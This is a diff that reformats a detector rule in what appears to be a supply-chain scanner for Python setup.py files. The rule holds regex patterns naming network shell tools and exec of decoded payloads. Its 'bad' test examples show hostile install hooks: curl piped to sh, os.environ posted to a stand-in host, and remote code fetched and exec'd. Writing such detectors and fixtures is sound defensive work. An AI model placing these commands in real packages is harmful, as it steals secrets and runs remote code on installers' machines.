@@ -29,10 +29,20 @@ from sentinel.detectors.supply_chain._launching import HIGH
 from sentinel.model.document import Document, Language
 from sentinel.model.rule import Confidence, Example, Hit, Item, Match, Pattern, Severity, rule
 
-_NETWORK = rb"\b(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.(?:get|post)|socket\.(?:create_connection|socket)|urllib3?\.request)[ \t]{0,4}\("
-_DECODED = rb"\b(?:exec|eval)[ \t]{0,4}\([^\n]{0,200}(?:b64decode|decompress|unhexlify|marshal\.loads|fromhex|urlopen|requests\.get)"
-_SHELL = rb"\b(?:os\.system|os\.popen|subprocess\.\w{1,20})[ \t]{0,4}\([^\n]{0,200}\b(?:curl|wget|powershell|Invoke-WebRequest|nc |bash -i|/dev/tcp)"
-_RUNS = re.compile(rb"\b(?:exec|eval)\s*\(|\bos\.(?:system|popen|startfile|exec[lv]p?e?)\s*\(|\bsubprocess\.|\bPopen\s*\(|\bctypes\b|environ|getpass|expanduser")
+_NETWORK = (
+    rb"\b(?:urlopen|urlretrieve|requests\.(?:get|post)|httpx\.(?:get|post)|socket\.(?:create_connection|socket)"
+    rb"|urllib3?\.request)[ \t]{0,4}\("
+)
+_DECODED = (
+    rb"\b(?:exec|eval)[ \t]{0,4}\([^\n]{0,200}(?:b64decode|decompress|unhexlify|marshal\.loads|fromhex|urlopen|requests\.get)"
+)
+_SHELL = (
+    rb"\b(?:os\.system|os\.popen|subprocess\.\w{1,20})[ \t]{0,4}\([^\n]{0,200}\b(?:curl|wget|powershell|Invoke-WebRequest|nc "
+    rb"|bash -i|/dev/tcp)"
+)
+_RUNS = re.compile(
+    rb"\b(?:exec|eval)\s*\(|\bos\.(?:system|popen|startfile|exec[lv]p?e?)\s*\(|\bsubprocess\.|\bPopen\s*\(|\bctypes\b|environ|getpass|expanduser"
+)
 _HEAD = "from setuptools import setup\n"
 
 
@@ -49,14 +59,29 @@ _HEAD = "from setuptools import setup\n"
     bad=(
         Example(f"{_HEAD}import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nsetup(name='a')\n", (3,), "setup.py"),
         Example(f"{_HEAD}import os\nos.system('curl -s https://get.example.org/s | sh')\nsetup(name='a')\n", (3,), "setup.py"),
-        Example(f"{_HEAD}import os, requests\nrequests.post('https://in.example.org', json=dict(os.environ))\nsetup(name='a')\n", (3,), "setup.py"),
-        Example(f"{_HEAD}from urllib.request import urlopen\ncode = urlopen('https://get.example.org/s').read()\nexec(code)\nsetup(name='a')\n", (3,), "pkg/setup.py"),
+        Example(
+            f"{_HEAD}import os, requests\nrequests.post('https://in.example.org', json=dict(os.environ))\nsetup(name='a')\n",
+            (3,),
+            "setup.py",
+        ),
+        Example(
+            f"{_HEAD}from urllib.request import urlopen\ncode = urlopen('https://get.example.org/s').read()\nexec(code)\nsetup(name='a')\n",
+            (3,),
+            "pkg/setup.py",
+        ),
         Example(f"{_HEAD}import subprocess\nsubprocess.Popen(['powershell', '-enc', 'YQ=='])\nsetup(name='a')\n", (3,), "setup.py"),
-        Example(f"{_HEAD}import urllib.request\nurllib.request.urlretrieve('https://get.example.org/lib.so', 'lib.so')\nsetup(name='a')\n", (3,), "setup.py"),
+        Example(
+            f"{_HEAD}import urllib.request\nurllib.request.urlretrieve('https://get.example.org/lib.so', 'lib.so')\n"
+            f"setup(name='a')\n",
+            (3,),
+            "setup.py",
+        ),
     ),
     good=(
         Example(f"{_HEAD}setup(name='a', url='https://example.org')\n", path="setup.py"),
-        Example(f"{_HEAD}import subprocess\nversion = subprocess.check_output(['git', 'describe'])\nsetup(name='a')\n", path="setup.py"),
+        Example(
+            f"{_HEAD}import subprocess\nversion = subprocess.check_output(['git', 'describe'])\nsetup(name='a')\n", path="setup.py"
+        ),
         Example(f"{_HEAD}import os\nos.system('make -C native')\nsetup(name='a')\n", path="setup.py"),
         Example(f"{_HEAD}exec(open('a/version.py').read())\nsetup(name='a')\n", path="setup.py"),
         Example("import requests\nrequests.get('https://example.org')\n", path="app.py"),
